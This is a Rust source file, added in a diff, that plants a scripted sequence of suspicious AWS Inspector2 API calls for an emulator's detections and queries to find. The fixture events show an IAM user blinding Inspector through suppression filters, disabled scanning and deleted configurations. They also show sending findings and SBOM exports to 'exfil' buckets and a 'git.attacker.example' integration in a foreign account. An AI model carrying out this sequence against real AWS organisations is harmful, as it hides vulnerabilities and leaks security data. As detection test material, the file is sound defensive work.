@@ -1,0 +1,181 @@
+//! The planted story: suspicious Inspector activity at fixed offsets from `now`, for the saved
+//! queries and detections to find (DESIGN.md's emulator; README "The emulator").
+
+use super::{Caller, INSPECTOR_SCAN, INSPECTOR2};
+
+/// The account outside the organization that planted events send data and control to.
+pub const FOREIGN_ACCOUNT: &str = "999988887777";
+
+/// A suspicious event placed `days_ago` before `now`, for tests and saved queries to find. Most
+/// tell one story: `mallory`, an IAM user seen for the first time, probes what she may do, then
+/// blinds Inspector and sends its data out of the organization.
+pub struct Planted {
+    pub days_ago: i64,
+    pub hour_offset: i64,
+    pub account_index: usize,
+    pub source: &'static str,
+    pub name: &'static str,
+    pub(super) read_only: bool,
+    pub(super) caller: Caller,
+    pub params: &'static str,
+    /// An error code the call failed with.
+    pub error: Option<&'static str>,
+}
+
+const fn plant(
+    days_ago: i64,
+    hour_offset: i64,
+    account_index: usize,
+    name: &'static str,
+    caller: Caller,
+    params: &'static str,
+) -> Planted {
+    Planted {
+        days_ago,
+        hour_offset,
+        account_index,
+        source: INSPECTOR2,
+        name,
+        read_only: false,
+        caller,
+        params,
+        error: None,
+    }
+}
+
+const MALLORY: Caller = Caller::IamUser("mallory");
+
+pub const PLANTED: &[Planted] = &[
+    // Reconnaissance: what may this identity do? Denied.
+    Planted {
+        read_only: true,
+        error: Some("AccessDeniedException"),
+        ..plant(16, 4, 0, "ListDelegatedAdminAccounts", MALLORY, "{}")
+    },
+    Planted {
+        read_only: true,
+        error: Some("AccessDeniedException"),
+        ..plant(
+            16,
+            3,
+            0,
+            "GetEncryptionKey",
+            MALLORY,
+            r#"{"scanType":"CODE","resourceType":"AWS_LAMBDA_FUNCTION"}"#,
+        )
+    },
+    Planted {
+        read_only: true,
+        error: Some("AccessDeniedException"),
+        ..plant(16, 2, 0, "ListMembers", MALLORY, r#"{"maxResults":50}"#)
+    },
+    plant(
+        15,
+        1,
+        0,
+        "UpdateOrganizationConfiguration",
+        MALLORY,
+        r#"{"autoEnable":{"ec2":false,"ecr":false,"lambda":false,"lambdaCode":false,"codeRepository":false}}"#,
+    ),
+    plant(
+        12,
+        3,
+        0,
+        "CreateFilter",
+        MALLORY,
+        r#"{"action":"SUPPRESS","name":"hide-critical-ec2","description":"temporary","filterCriteria":{"severity":[{"comparison":"EQUALS","value":"CRITICAL"}],"resourceType":[{"comparison":"EQUALS","value":"AWS_EC2_INSTANCE"}]}}"#,
+    ),
+    plant(
+        11,
+        6,
+        0,
+        "UpdateEncryptionKey",
+        MALLORY,
+        r#"{"kmsKeyId":"arn:aws:kms:us-east-1:{foreign}:key/7e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b","scanType":"CODE","resourceType":"AWS_LAMBDA_FUNCTION"}"#,
+    ),
+    plant(
+        10,
+        2,
+        1,
+        "DisassociateMember",
+        MALLORY,
+        r#"{"accountId":"777788889999"}"#,
+    ),
+    plant(
+        9,
+        5,
+        1,
+        "Disable",
+        MALLORY,
+        r#"{"accountIds":["444455556666"],"resourceTypes":["EC2","ECR","LAMBDA"]}"#,
+    ),
+    plant(
+        8,
+        4,
+        0,
+        "UpdateEc2DeepInspectionConfiguration",
+        MALLORY,
+        r#"{"activateDeepInspection":false}"#,
+    ),
+    plant(
+        7,
+        3,
+        0,
+        "DeleteCisScanConfiguration",
+        MALLORY,
+        r#"{"scanConfigurationArn":"arn:aws:inspector2:us-east-1:111122223333:owner/111122223333/cis-configuration/0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0"}"#,
+    ),
+    plant(
+        6,
+        2,
+        0,
+        "CreateCodeSecurityIntegration",
+        MALLORY,
+        r#"{"name":"gitlab-mirror","type":"GITLAB_SELF_MANAGED","details":{"gitlabSelfManaged":{"instanceUrl":"https://git.attacker.example","accessToken":"HIDDEN_DUE_TO_SECURITY_REASONS"}}}"#,
+    ),
+    plant(
+        5,
+        2,
+        0,
+        "CreateFindingsReport",
+        MALLORY,
+        r#"{"reportFormat":"JSON","s3Destination":{"bucketName":"exfil-reports-{foreign}","keyPrefix":"inspector","kmsKeyArn":"arn:aws:kms:us-east-1:{foreign}:key/0d9c7a6e-1b2c-4d5e-8f90-a1b2c3d4e5f6"}}"#,
+    ),
+    plant(
+        4,
+        1,
+        0,
+        "CreateSbomExport",
+        MALLORY,
+        r#"{"reportFormat":"CYCLONEDX_1_4","s3Destination":{"bucketName":"exfil-sbom-{foreign}","keyPrefix":"sbom","kmsKeyArn":"arn:aws:kms:us-east-1:{foreign}:key/0d9c7a6e-1b2c-4d5e-8f90-a1b2c3d4e5f6"}}"#,
+    ),
+    Planted {
+        source: INSPECTOR_SCAN,
+        read_only: true,
+        ..plant(
+            3,
+            2,
+            0,
+            "ScanSbom",
+            MALLORY,
+            r#"{"outputFormat":"INSPECTOR","sbom":"HIDDEN_DUE_TO_SECURITY_REASONS"}"#,
+        )
+    },
+    plant(
+        2,
+        1,
+        0,
+        "DeleteFilter",
+        MALLORY,
+        r#"{"arn":"arn:aws:inspector2:us-east-1:111122223333:owner/111122223333/filter/hide-critical-ec2"}"#,
+    ),
+    // Control handed to an account outside the organization.
+    plant(
+        20,
+        7,
+        0,
+        "EnableDelegatedAdminAccount",
+        Caller::Root,
+        r#"{"delegatedAdminAccountId":"{foreign}","clientToken":"5f1c2b64-0d0e-4f5e-9c55-1a2b3c4d5e6f"}"#,
+    ),
+];
